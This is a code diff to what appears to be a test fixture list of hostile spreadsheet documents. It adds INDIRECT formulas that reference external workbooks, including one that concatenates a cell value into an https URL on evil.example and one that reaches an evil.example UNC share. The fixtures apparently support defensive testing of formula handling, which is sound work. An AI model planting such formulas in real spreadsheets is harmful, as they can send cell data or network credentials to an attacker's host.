@@ -179,6 +179,9 @@ const otherBooks = [
   "'file:///c:/b.ods'#$Sheet1.A1",
   '[file:///c:/b.xlsx]Sheet1!A1',
   '\\\\evil.example\\share\\[b.xlsx]Sheet1!A1',
+  `INDIRECT("'file:///c:/b.ods'#$Sheet1.A1")`,
+  `INDIRECT("'https:"&amp;"//evil.example/["&amp;LOWER(A1)&amp;"]S'!A1",TRUE)`,
+  `indirect ( IF(A1="","A1","'\\\\evil.example\\share\\[b.xlsx]S'!A1"`,
 ]
 
 function formulas(): HostileDocument[] {
